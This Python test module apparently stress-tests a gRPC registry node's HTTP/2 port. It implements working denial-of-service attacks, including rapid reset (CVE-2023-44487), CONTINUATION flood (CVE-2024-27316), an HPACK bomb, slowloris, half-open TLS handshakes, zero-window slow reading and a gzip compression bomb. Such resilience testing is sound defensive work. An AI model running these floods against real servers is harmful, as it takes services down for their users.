"""Attacks on a node's port, each for the time it is given: what the node closes is opened again.

Standard library only: each runs as a process of its own beside the well-behaved caller, and starts
at once. All but the first three callers of `UNKNOWN` hold a valid client certificate.
"""

import gzip
import socket
import time
from collections import Counter
from collections.abc import Callable, Mapping
from contextlib import suppress
from threading import Thread
from types import MappingProxyType
from typing import Final, TypeAlias

from tests.faults.network_attacks import frames as h2
from tests.faults.network_attacks.frames import Connection, Target

Counts: TypeAlias = "Counter[str]"
Attack: TypeAlias = Callable[[Target, float], Counts]
Step: TypeAlias = Callable[[Connection], None]

_STATUS: Final = "/registry.api.v1.AdminService/GetNodeStatus"
_LIST: Final = "/registry.api.v1.AuditService/ListEntries"
_WATCH: Final = "/registry.api.v1.AuditService/WatchCheckpoints"
_REFUSED_S: Final = 0.02
"""Before a connection that was refused is tried again."""
_SOCKETS: Final = 400
_CONNECTIONS: Final = 8
_BURST: Final = 200


def _again_and_again(
    target: Target, end: float, step: Step, *, values: tuple[tuple[int, int], ...] = ()
) -> Counts:
    """Repeats a step on one connection, and on the next if the node closes it."""
    counts: Counts = Counter()
    while time.monotonic() < end:
        try:
            connection = target.http2(values)
        except OSError:
            counts["refused"] += 1
            time.sleep(_REFUSED_S)
            continue
        counts["connections"] += 1
        with suppress(OSError):
            while time.monotonic() < end:
                step(connection)
                counts["steps"] += 1
        connection.close()
    return counts


def _at_once(target: Target, end: float, attack: Attack, count: int) -> Counts:
    """The same attack over several connections."""
    counts: Counts = Counter()
    threads = [
        Thread(target=lambda: counts.update(attack(target, end)), daemon=True) for _ in range(count)
    ]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    return counts


def _call(connection: Connection, path: str, data: bytes = b"", *more: tuple[str, str]) -> bytes:
    """The frames of a whole call with its request."""
    stream = connection.new_stream()
    headers = h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(path, *more))
    return headers + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(data))


# --- floods of frames -----------------------------------------------------------------------------


def rapid_reset(target: Target, end: float) -> Counts:
    """CVE-2023-44487: streams that are opened and reset at once, so that no limit counts them."""

    def step(connection: Connection) -> None:
        burst = b""
        for _ in range(_BURST):
            burst += _call(connection, _STATUS)
            stream = connection._next_stream - 2
            burst += h2.frame(h2.RST_STREAM, 0, stream, h2.CANCEL.to_bytes(4, "big"))
        connection.send(burst)
        connection.drain()

    return _at_once(target, end, lambda t, e: _again_and_again(t, e, step), 4)


def ping_flood(target: Target, end: float) -> Counts:
    """PING frames, each of which asks for an answer that nobody reads."""
    burst = h2.frame(h2.PING, 0, 0, b"12345678") * 1000
    return _again_and_again(target, end, lambda connection: connection.send(burst))


def settings_flood(target: Target, end: float) -> Counts:
    """SETTINGS frames, each of which asks for an acknowledgement that nobody reads."""
    burst = h2.settings([(3, 100), (h2.SETTINGS_INITIAL_WINDOW, 65_535)]) * 1000
    return _again_and_again(target, end, lambda connection: connection.send(burst))


def continuation_flood(target: Target, end: float) -> Counts:
    """CVE-2024-27316: a header block that never ends."""

    def step(connection: Connection) -> None:
        stream = connection.new_stream()
        connection.send(h2.frame(h2.HEADERS, 0, stream, h2.call_headers(_STATUS)))
        more = h2.literal("x-more", "v" * 15_000)
        for _ in range(2000):
            connection.send(h2.frame(h2.CONTINUATION, 0, stream, more))

    return _again_and_again(target, end, step)


def huge_metadata(target: Target, end: float) -> Counts:
    """An HPACK bomb: a field of 4,000 bytes that is named again by one byte, thousands of times."""

    def step(connection: Connection) -> None:
        stream = connection.new_stream()
        block = h2.call_headers(_STATUS) + h2.literal("x-bomb", "b" * 3900, is_indexed=True)
        connection.send(h2.frame(h2.HEADERS, 0, stream, block))
        for _ in range(20):
            connection.send(h2.frame(h2.CONTINUATION, 0, stream, h2.indexed(62) * 16_000))
        connection.send(h2.frame(h2.CONTINUATION, h2.END_HEADERS, stream))
        connection.drain(0.05)

    return _at_once(target, end, lambda t, e: _again_and_again(t, e, step), 2)


# --- connections that stay ------------------------------------------------------------------------


def _held_sockets(target: Target, end: float, greeting: bytes) -> Counts:
    """Hundreds of TCP connections that say this and no more; those that are closed come again."""
    counts: Counts = Counter()
    held: list[socket.socket] = []
    while time.monotonic() < end:
        with suppress(OSError):
            connection = target.tcp()
            connection.sendall(greeting)
            held.append(connection)
            counts["connections"] += 1
        if len(held) > _SOCKETS:
            held.pop(0).close()
    for each in held:
        each.close()
    return counts


def half_open_handshakes(target: Target, end: float) -> Counts:
    """TLS handshakes of which only the beginning comes."""
    return _held_sockets(target, end, bytes.fromhex("1603010200010001fc0303") + bytes(20))


def unauthenticated(target: Target, end: float) -> Counts:
    """Whole handshakes without a client certificate, one after the other."""

    def attack(of: Target, until: float) -> Counts:
        counts: Counts = Counter()
        while time.monotonic() < until:
            with suppress(OSError):
                connection = of.tls(has_certificate=False)
                counts["connections"] += 1
                connection.send(h2.PREFACE + h2.settings() + _call(connection, _STATUS))
                connection.drain(0.2)
                counts["answered"] += connection.received_bytes > 0
                connection.close()
        return counts

    return _at_once(target, end, attack, 4)


def slowloris(target: Target, end: float) -> Counts:
    """A hundred authenticated connections that send one byte a second."""
    held: list[Connection] = []
    said = h2.PREFACE + h2.settings()
    counts: Counts = Counter()
    for _ in range(100):
        with suppress(OSError):
            held.append(target.tls())
            counts["connections"] += 1
    at = 0
    while time.monotonic() < end:
        for each in list(held):
            try:
                each.send(said[at : at + 1])
                counts["steps"] += 1
            except OSError:
                held.remove(each)
                counts["closed"] += 1
        at += 1
        time.sleep(1.0)
    for each in held:
        each.close()
    return counts


def slow_reader(target: Target, end: float) -> Counts:
    """Calls for the largest answers, of which not one byte is let through: a window of zero."""
    request = b"\x10\xe8\x07"  # a page of 1,000

    def attack(of: Target, until: float) -> Counts:
        counts: Counts = Counter()
        with suppress(OSError):
            connection = of.http2([(h2.SETTINGS_INITIAL_WINDOW, 0)])
            counts["connections"] += 1
            while time.monotonic() < until:
                connection.send(b"".join(_call(connection, _LIST, request) for _ in range(20)))
                counts["steps"] += 1
                connection.drain(0.05)
        return counts

    return _at_once(target, end, attack, _CONNECTIONS)


def many_streams(target: Target, end: float) -> Counts:
    """As many open streams as there may be, and more, on several connections."""

    def attack(of: Target, until: float) -> Counts:
        counts: Counts = Counter()
        with suppress(OSError):
            connection = of.http2()
            counts["connections"] += 1
            for _ in range(1000):
                connection.send(_call(connection, _WATCH))
                counts["steps"] += 1
            while time.monotonic() < until:
                connection.drain(0.1)
        return counts

    return _at_once(target, end, attack, _CONNECTIONS)


# --- messages and calls ---------------------------------------------------------------------------


def compression_bomb(target: Target, end: float) -> Counts:
    """Compressed messages that fit into the first window, and would be 48 MiB each."""
    bomb = h2.message(gzip.compress(bytes(48 * 2**20), 9), is_compressed=True)
    assert len(bomb) < 60_000

    def step(connection: Connection) -> None:
        stream = connection.new_stream()
        headers = h2.call_headers(_STATUS, ("grpc-encoding", "gzip"))
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, headers))
        _send_data(connection, stream, bomb)

    return _at_once(target, end, lambda t, e: _again_and_again(t, e, step), _CONNECTIONS)


def oversized_messages(target: Target, end: float) -> Counts:
    """Messages that say that they have 4 GiB, and such as have 64 MiB."""

    def step(connection: Connection) -> None:
        for data in (h2.message(b"x" * 100, size=2**32 - 1), h2.message(bytes(64 * 2**20))):
            stream = connection.new_stream()
            headers = h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(_STATUS))
            connection.send(headers)
            _send_data(connection, stream, data)

    return _again_and_again(target, end, step)


def _send_data(connection: Connection, stream: int, data: bytes) -> None:
    """Sends without regard to any window: that is the node's to refuse."""
    for at in range(0, len(data), h2.FRAME_MAX_BYTES):
        is_last = at + h2.FRAME_MAX_BYTES >= len(data)
        chunk = data[at : at + h2.FRAME_MAX_BYTES]
        connection.send(h2.frame(h2.DATA, h2.END_STREAM if is_last else 0, stream, chunk))
        if at % (64 * h2.FRAME_MAX_BYTES) == 0:
            connection.drain()
    connection.drain(0.02)


def valid_flood(target: Target, end: float) -> Counts:
    """One client that makes sound calls, as many and as fast as it can."""

    def step(connection: Connection) -> None:
        connection.send(b"".join(_call(connection, _STATUS) for _ in range(20)))
        credit = (1 << 20).to_bytes(4, "big")
        connection.send(h2.frame(h2.WINDOW_UPDATE, 0, 0, credit))
        connection.drain(0.01)

    return _at_once(target, end, lambda t, e: _again_and_again(t, e, step), _CONNECTIONS)


ATTACKS: Final[Mapping[str, Attack]] = MappingProxyType(
    {
        each.__name__: each
        for each in (
            rapid_reset,
            ping_flood,
            settings_flood,
            continuation_flood,
            huge_metadata,
            half_open_handshakes,
            unauthenticated,
            slowloris,
            slow_reader,
            many_streams,
            compression_bomb,
            oversized_messages,
            valid_flood,
        )
    }
)
